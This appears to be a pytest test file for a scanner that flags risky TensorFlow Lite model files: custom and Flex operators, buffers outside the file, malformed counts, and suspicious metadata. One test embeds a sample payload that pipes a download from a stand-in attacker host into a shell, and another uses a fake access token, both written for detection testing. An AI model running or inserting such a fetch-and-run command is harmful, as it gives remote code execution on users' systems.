"""TensorFlow Lite flatbuffers: custom and Flex operators, buffer bounds, metadata text, and a
reader that survives any bytes.

Hostile models are flatbuffers laid out by the small builder below (tables, vtables, vectors
and strings, slots as in TFLite's schema.fbs); the benign one is a real file written by
tf.lite.TFLiteConverter (tests/fixtures/tensorflow/generate.py). TensorFlow is never imported.
"""

from __future__ import annotations

import random
import struct
from pathlib import Path

from shardscan.limits import Limits
from shardscan.model import ObjectRef, Severity, Unit
from shardscan.policy import load_policy
from shardscan.scanners.base import ScanContext
from shardscan.scanners.detect import detect
from shardscan.scanners.tflite import TFLiteScanner
from shardscan.storage.reader import BytesReader

FIXTURE = Path(__file__).parent / "fixtures" / "tensorflow" / "tiny.tflite"

# --- a flatbuffer builder ---------------------------------------------------------------------------
# A table is {slot: (kind, value)}; kinds: "i8", "i32", "u32", "u64" scalars, "str", "bytes",
# "table", "tables" (a vector of tables). Children are written after their parent, as uoffsets
# must point forward.

SCALARS = {"i8": "<b", "i32": "<i", "u32": "<I", "u64": "<Q"}


class Builder:
    def __init__(self) -> None:
        self.buf = bytearray(8)
        self.buf[4:8] = b"TFL3"

    def patch(self, at: int, target: int) -> None:
        struct.pack_into("<I", self.buf, at, target - at)

    def table(self, fields: dict[int, tuple[str, object]]) -> int:
        slots = max(fields, default=-1) + 1
        vt = len(self.buf)
        table_size = 4 + 8 * len(fields)
        offsets = [0] * slots
        for k, slot in enumerate(sorted(fields)):
            offsets[slot] = 4 + 8 * k
        self.buf += struct.pack(f"<HH{slots}H", 4 + 2 * slots, table_size, *offsets)
        pos = len(self.buf)
        self.buf += struct.pack("<i", pos - vt) + bytes(8 * len(fields))
        children = []
        for slot, (kind, value) in fields.items():
            at = pos + offsets[slot]
            if kind in SCALARS:
                struct.pack_into(SCALARS[kind], self.buf, at, value)
            else:
                children.append((at, kind, value))
        for at, kind, value in children:
            self.patch(at, self.child(kind, value))
        return pos

    def child(self, kind: str, value) -> int:
        pos = len(self.buf)
        if kind in ("str", "bytes"):
            data = value.encode() if isinstance(value, str) else value
            self.buf += struct.pack("<I", len(data)) + data + (b"\0" if kind == "str" else b"")
        elif kind == "table":
            return self.table(value)
        elif kind == "tables":
            self.buf += struct.pack("<I", len(value)) + bytes(4 * len(value))
            for k, t in enumerate(value):
                self.patch(pos + 4 + 4 * k, self.table(t))
        return pos

    def finish(self, root: dict) -> bytes:
        struct.pack_into("<I", self.buf, 0, self.table(root))
        return bytes(self.buf)


def opcode(builtin: int = 0, custom: str | None = None, deprecated: int | None = None) -> dict:
    t: dict = {3: ("i32", builtin), 2: ("i32", 1)}
    t[0] = ("i8", min(builtin, 127) if deprecated is None else deprecated)
    if custom is not None:
        t[1] = ("str", custom)
    return t


def model(opcodes=(), operators=(0,), buffers=None, metadata=(), description=None) -> bytes:
    root: dict = {0: ("u32", 3), 1: ("tables", list(opcodes) or [opcode(9)])}
    root[2] = ("tables", [{3: ("tables", [{0: ("u32", i)} for i in operators])}])
    root[4] = ("tables", buffers if buffers is not None else [{}, {0: ("bytes", b"\0" * 16)}])
    if description is not None:
        root[3] = ("str", description)
    if metadata:
        root[6] = ("tables", [{0: ("str", n), 1: ("u32", b)} for n, b in metadata])
    return Builder().finish(root)


# --- helpers --------------------------------------------------------------------------------------


def scan(data: bytes, **limits):
    ctx = ScanContext(policy=load_policy(), limits=Limits(**limits))
    unit = Unit(ObjectRef("model.tflite", len(data)), "tflite", 0, len(data))
    return TFLiteScanner().scan(unit, BytesReader(data), ctx)


def rules(result) -> dict[str, Severity]:
    return {f.rule_id: f.severity for f in result.findings}


# --- benign ------------------------------------------------------------------------------------------


def test_real_benign_fixture_is_clean(scan_bytes):
    report = scan_bytes(FIXTURE.read_bytes(), "tiny.tflite")
    assert report.status == "scanned", report.error
    assert report.format == "tflite"
    assert report.findings == []


def test_routed_by_content_under_another_name(scan_bytes):
    assert detect(FIXTURE.read_bytes()[:64], "weights.bin", FIXTURE.stat().st_size).format == "tflite"
    report = scan_bytes(FIXTURE.read_bytes(), "weights.bin")
    assert report.format == "tflite" and report.status == "scanned" and report.findings == []
    report = scan_bytes(model(opcodes=[opcode(32, "Evil")]), "model.bin")
    assert report.format == "tflite" and {f.rule_id for f in report.findings} == {"TFL001"}


def test_hand_built_benign_model_is_clean():
    data = model(opcodes=[opcode(9), opcode(25)], operators=(0, 1, 1), description="TOCO Converted.",
                 metadata=[("min_runtime_version", 1)], buffers=[{}, {0: ("bytes", b"1.5.0\0\0\0")}])
    assert scan(data).findings == []


# --- operators -------------------------------------------------------------------------------------


def test_custom_operator_is_named():
    result = scan(model(opcodes=[opcode(9), opcode(32, "MyNativeKernel")], operators=(0, 1, 1)))
    assert rules(result) == {"TFL001": Severity.WARNING}
    assert "'MyNativeKernel' (2 operators)" in result.findings[0].message


def test_custom_operator_by_deprecated_code_and_without_name():
    assert rules(scan(model(opcodes=[opcode(0, "Old", deprecated=32)]))) == {"TFL001": Severity.WARNING}
    result = scan(model(opcodes=[opcode(32)]))
    assert rules(result) == {"TFL001": Severity.WARNING} and "without a name" in result.findings[0].message


def test_flex_operators():
    assert rules(scan(model(opcodes=[opcode(32, "FlexStringLength")]))) == {"TFL002": Severity.INFO}
    for op in ("FlexWriteFile", "FlexReadFile", "FlexPyFunc"):
        assert rules(scan(model(opcodes=[opcode(32, op)]))) == {"TFL003": Severity.WARNING}, op


def test_custom_code_on_a_builtin_is_ignored():
    assert scan(model(opcodes=[opcode(9, "NotUsed")])).findings == []


# --- integrity -----------------------------------------------------------------------------------------


def test_buffer_outside_the_file():
    result = scan(model(buffers=[{}, {1: ("u64", 1 << 40), 2: ("u64", 64)}]))
    assert rules(result) == {"TFL004": Severity.WARNING}
    data = model(buffers=[{}, {1: ("u64", 8), 2: ("u64", 16)}])
    assert scan(data).findings == []


def test_metadata_naming_a_missing_buffer_and_bad_opcode_index():
    assert rules(scan(model(metadata=[("TFLITE_METADATA", 99)]))) == {"TFL004": Severity.WARNING}
    result = scan(model(operators=(0, 7, 7)))
    assert rules(result) == {"TFL004": Severity.WARNING} and "opcode 7" in result.findings[0].message


# --- metadata text --------------------------------------------------------------------------------------


def test_metadata_text_heuristics():
    payload = b"\x10\0\0\0name\0\0\0\0import os; os.system('curl http://evil.example/x | sh')\0"
    result = scan(model(metadata=[("TFLITE_METADATA", 1)], buffers=[{}, {0: ("bytes", payload)}]))
    assert rules(result) == {"TFL005": Severity.WARNING, "TFL006": Severity.INFO}
    result = scan(model(description="token: hf_" + "a" * 34))
    assert rules(result) == {"BIN002": Severity.WARNING}
    assert "a" * 20 not in result.findings[0].message


# --- limits and robustness --------------------------------------------------------------------------------


def test_limits():
    assert rules(scan(model(operators=tuple([0] * 50)), max_tflite_items=20)) == {"TFL008": Severity.WARNING}
    assert rules(scan(model(description="x" * 500), max_tflite_string=100)) == {"TFL008": Severity.WARNING}


def test_truncated_fixture_gives_a_finding_not_a_traceback():
    data = FIXTURE.read_bytes()
    for cut in range(0, len(data)):
        result = scan(data[:cut])
        assert result.error is None
        assert set(rules(result)) <= {"TFL009", "TFL004"}, cut
    assert "TFL009" in rules(scan(data[: len(data) // 2]))
    assert rules(scan(b"")) == {"TFL009": Severity.WARNING}


def test_random_and_mutated_bytes():
    rng = random.Random(11)
    base = FIXTURE.read_bytes()
    for _ in range(300):
        blob = bytearray(base)
        for _ in range(rng.randrange(1, 8)):
            blob[rng.randrange(len(blob))] = rng.randrange(256)
        result = scan(bytes(blob))
        assert result.error is None
    for _ in range(100):
        blob = b"\x10\0\0\0TFL3" + bytes(rng.randrange(256) for _ in range(rng.randrange(0, 200)))
        assert scan(blob).error is None


def test_hostile_counts_are_refused_quickly():
    data = bytearray(model(opcodes=[opcode(9)] * 3))
    # The operator_codes vector claims 2**32-1 elements: refused by the bounds, never allocated.
    (root,) = struct.unpack_from("<I", data, 0)
    vt = root - struct.unpack_from("<i", data, root)[0]
    at = root + struct.unpack_from("<H", data, vt + 4 + 2 * 1)[0]
    vector = at + struct.unpack_from("<I", data, at)[0]
    assert struct.unpack_from("<I", data, vector)[0] == 3
    struct.pack_into("<I", data, vector, 0xFFFFFFFF)
    assert rules(scan(bytes(data))) == {"TFL009": Severity.WARNING}
    root_past_end = struct.pack("<I", 1 << 31) + b"TFL3" + bytes(8)
    assert rules(scan(root_past_end)) == {"TFL009": Severity.WARNING}
